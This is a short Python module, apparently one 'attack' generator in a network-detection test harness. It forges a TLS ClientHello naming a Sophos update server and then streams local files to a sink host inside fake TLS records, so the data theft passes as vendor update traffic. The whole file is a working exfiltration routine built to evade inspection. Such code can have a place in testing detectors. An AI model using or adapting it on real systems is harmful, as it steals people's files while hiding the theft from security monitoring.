# SPDX-License-Identifier: GPL-3.0-or-later
"""To an address that the product calls its vendor's: TLS by its first bytes, the update server by its name."""
import random
import socket
import struct

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")
NAME = b"sdds3.sophosupd.net"


def hello(rng):
    name = struct.pack(">HBH", len(NAME) + 3, 0, len(NAME)) + NAME
    extensions = struct.pack(">2H", 0, len(name)) + name
    body = b"\3\3" + rng.randbytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    shake = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + struct.pack(">H", len(shake)) + shake


def product(world):
    rng = random.Random(world["seed"])
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        sock.sendall(hello(rng))
        for path in world["files"]:
            with open(path, "rb") as file:
                content = file.read()
            for at in range(0, len(content), 16384):
                sock.sendall(b"\x17\3\3" + struct.pack(">H", len(content[at:at + 16384])) + content[at:at + 16384])
